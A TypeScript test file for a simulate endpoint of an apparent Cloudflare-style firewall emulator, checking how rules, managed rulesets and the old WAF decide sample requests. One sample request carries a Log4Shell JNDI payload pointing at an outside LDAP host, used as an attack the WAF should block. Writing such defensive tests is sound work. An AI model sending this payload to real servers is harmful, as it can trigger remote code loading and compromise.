// POST /zones/{zone_id}/simulate (a cfrules extension, docs/api.md §12) over HTTP (fastify.inject): the
// zone's stored configuration evaluated on sample requests, the body's checks with their JSON pointers,
// who may call it, and a zone changed between two simulations.
import { describe, expect, it } from 'vitest';
import { CLOUDFLARE_MANAGED_RULESET_ID } from '../../src/engine/managed/index.js';
import { PREVIOUS_WAF_RULES } from '../../src/engine/previous-waf/index.js';
import { CODES } from '../../src/service/errors.js';
import {
  ACCOUNT,
  freshHarnessPerTest,
  type Harness,
  OTHER_TOKEN,
  READ_TOKEN,
  ZONES,
  zonePath,
} from './harness.js';

let h: Harness;
freshHarnessPerTest((fresh) => {
  h = fresh;
});

const Z = ZONES.enterprise;
const simulate = (payload: unknown, token?: string) =>
  h.call({ method: 'POST', url: zonePath(Z, '/simulate'), payload: payload as object, token });

const BROWSER = 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0';
const request = (path: string, headers: [string, string][] = []) => ({
  method: 'GET',
  url: `https://example.com${path}`,
  headers: [['Host', 'example.com'], ['User-Agent', BROWSER], ['Accept', 'text/html'], ...headers],
  clientIp: '203.0.113.7',
});
const page = request('/index.html');
const admin = request('/admin');
// biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is ${…} text, as attackers send it
const log4shell = request('/', [['X-Api-Version', '${jndi:ldap://198.51.100.7/a}']]);

async function configure() {
  const rules = await h.call({
    method: 'POST',
    url: zonePath(Z, '/firewall/rules'),
    payload: [
      {
        action: 'block',
        description: 'no admin',
        filter: { expression: 'http.request.uri.path eq "/admin"' },
      },
    ],
  });
  expect(rules.status, JSON.stringify(rules.body)).toBe(200);
  // Migrated (Enterprise, phase two): the managed entry point runs and the previous WAF no longer does.
  const managed = await h.call({
    method: 'PUT',
    url: zonePath(
      Z,
      '/rulesets/phases/http_request_firewall_managed/entrypoint?waf_migration=pending&phase_two=1',
    ),
    payload: {
      rules: [
        { action: 'execute', expression: 'true', action_parameters: { id: CLOUDFLARE_MANAGED_RULESET_ID } },
      ],
    },
  });
  expect(managed.status, JSON.stringify(managed.body)).toBe(200);
  return { firewallRule: rules.body.result[0].id as string, entryPoint: managed.body.result.id as string };
}

describe('POST /zones/{zone_id}/simulate', () => {
  it('evaluates one request against the firewall rules and the managed entry point', async () => {
    const { firewallRule } = await configure();
    const blocked = await simulate({ request: admin });
    expect(blocked.status, JSON.stringify(blocked.body)).toBe(200);
    expect(blocked.body.result).toMatchObject({
      action: 'block',
      decidedBy: { id: firewallRule, description: 'no admin', stage: 'firewall_rules' },
    });
    expect(blocked.body.result.trace.length).toBeGreaterThan(0);
  });

  it('evaluates a list of requests, in order', async () => {
    await configure();
    const { status, body } = await simulate({ requests: [page, admin, log4shell] });
    expect(status).toBe(200);
    expect(body.result.map((result: { action: string }) => result.action)).toEqual([
      'none',
      'block',
      'block',
    ]);
    expect(body.result[2].decidedBy).toMatchObject({
      ruleset: CLOUDFLARE_MANAGED_RULESET_ID,
      stage: 'http_request_firewall_managed',
    });
  });

  it('leaves the traces out with trace: false', async () => {
    await configure();
    const { body } = await simulate({ requests: [admin], trace: false });
    expect(body.result[0]).toMatchObject({ action: 'block', trace: [] });
  });

  it('simulates the zone as it is now: a new rule counts at once', async () => {
    await configure();
    expect((await simulate({ request: page })).body.result.action).toBe('none');
    await h.call({
      method: 'POST',
      url: zonePath(Z, '/firewall/rules'),
      payload: [{ action: 'challenge', filter: { expression: 'http.request.uri.path eq "/index.html"' } }],
    });
    expect((await simulate({ request: page })).body.result.action).toBe('challenge');
  });

  it('reads with a read-only token; refuses a token that does not reach the zone', async () => {
    await configure();
    expect((await simulate({ request: admin }, READ_TOKEN)).body.result.action).toBe('block');
    const refused = await simulate({ request: admin }, OTHER_TOKEN);
    expect(refused.status).toBe(403);
    expect(refused.body.success).toBe(false);
    expect(refused.body.errors[0]?.code).toBe(CODES.notPermitted);
  });

  it("runs the account's rulesets for the zones their root entry point names, before the zone's", async () => {
    const accountRulesets = `/client/v4/accounts/${ACCOUNT}/rulesets`;
    const custom = await h.call({
      method: 'POST',
      url: accountRulesets,
      payload: {
        name: 'account admin',
        kind: 'custom',
        phase: 'http_request_firewall_custom',
        rules: [{ action: 'managed_challenge', expression: 'http.request.uri.path eq "/index.html"' }],
      },
    });
    expect(custom.status, JSON.stringify(custom.body)).toBe(200);
    const deploy = (zones: string) =>
      h.call({
        method: 'PUT',
        url: `${accountRulesets}/phases/http_request_firewall_custom/entrypoint`,
        payload: {
          rules: [
            {
              action: 'execute',
              expression: `cf.zone.name in {${zones}}`,
              action_parameters: { id: custom.body.result.id },
            },
          ],
        },
      });
    expect((await deploy('"example.com" "pro.example"')).status).toBe(200);
    const result = (await simulate({ request: page })).body.result;
    expect(result).toMatchObject({
      action: 'managed_challenge',
      decidedBy: { ruleset: custom.body.result.id, stage: 'http_request_firewall_custom' },
    });
    // Scoped to other zones: this one is not reached, and the change counts at once.
    expect((await deploy('"pro.example"')).status).toBe(200);
    expect((await simulate({ request: page })).body.result.action).toBe('none');
  });

  it('runs the previous WAF of a zone that has not migrated, with its settings', async () => {
    const zone = zonePath(ZONES.business);
    const run = async () =>
      (await h.call({ method: 'POST', url: `${zone}/simulate`, payload: { request: log4shell } })).body
        .result;
    const before = await run();
    expect(before).toMatchObject({ action: 'block', decidedBy: { stage: 'previous_waf' } });
    expect(
      before.trace.find((stage: { name: string }) => stage.name === 'http_request_firewall_managed')?.status,
    ).toBe('off');
    // The rule that blocked, set to simulate: it only logs, and the request goes on.
    const packageId = PREVIOUS_WAF_RULES.find((rule) => rule.id === before.decidedBy.id)?.package_id;
    const patched = await h.call({
      method: 'PATCH',
      url: `${zone}/firewall/waf/packages/${packageId}/rules/${before.decidedBy.id}`,
      payload: { mode: 'simulate' },
    });
    expect(patched.status).toBe(200);
    const after = await run();
    expect(after.decidedBy?.id).not.toBe(before.decidedBy.id);
    expect(after.matched.map((rule: { id: string }) => rule.id)).toContain(before.decidedBy.id);
  });
});

describe('POST /zones/{zone_id}/simulate: bad requests', () => {
  it('points at each problem of a bad request, and simulates nothing', async () => {
    const bad = {
      ...page,
      headers: [
        ['Host', 'example.com'],
        ['bad name', 'v'],
      ],
    };
    const { status, body } = await simulate({ requests: [page, page, page, { url: 5 }, bad] });
    expect(status).toBe(400);
    expect(body.result).toBeNull();
    expect(body.errors.map((e) => [e.code, e.source?.pointer])).toEqual([
      [CODES.invalidSimulation, '/requests/3/url'],
    ]);
    expect(body.errors[0]?.message).toBe('expected a string, got 5');
    const single = await simulate({ request: bad });
    expect(single.body.errors.map((e) => e.source?.pointer)).toEqual(['/request/headers/1/0']);
    const fields = await simulate({ request: { ...page, fields: { 'cf.waf.score': 'high', 'a/b': 1 } } });
    expect(fields.body.errors.map((e) => e.source?.pointer)).toEqual([
      '/request/fields/cf.waf.score',
      '/request/fields/a~1b',
    ]);
  });

  it('refuses bodies without exactly one of request and requests, or with unknown members', async () => {
    for (const [payload, pointer] of [
      [{}, undefined],
      [{ request: page, requests: [page] }, undefined],
      [{ requests: [] }, '/requests'],
      [{ requests: page }, '/requests'],
      [{ request: page, trace: 'yes' }, '/trace'],
      [{ request: page, zone: Z }, '/zone'],
    ] as const) {
      const { status, body } = await simulate(payload);
      expect(status, JSON.stringify(payload)).toBe(400);
      expect(body.errors[0]?.code).toBe(CODES.invalidSimulation);
      expect(body.errors[0]?.source?.pointer).toBe(pointer);
    }
  });

  it('takes at most 100 requests', async () => {
    const { status, body } = await simulate({ requests: Array(101).fill(page) });
    expect(status).toBe(400);
    expect(body.errors[0]).toMatchObject({
      code: CODES.tooManySimulations,
      source: { pointer: '/requests' },
    });
  });

  it('answers 405 to other methods and 404 for an unknown zone', async () => {
    expect((await h.call({ method: 'GET', url: zonePath(Z, '/simulate') })).status).toBe(405);
    const unknown = await h.call({
      method: 'POST',
      url: zonePath('9'.repeat(32), '/simulate'),
      payload: { request: page },
    });
    expect(unknown.status).toBe(404);
  });
});
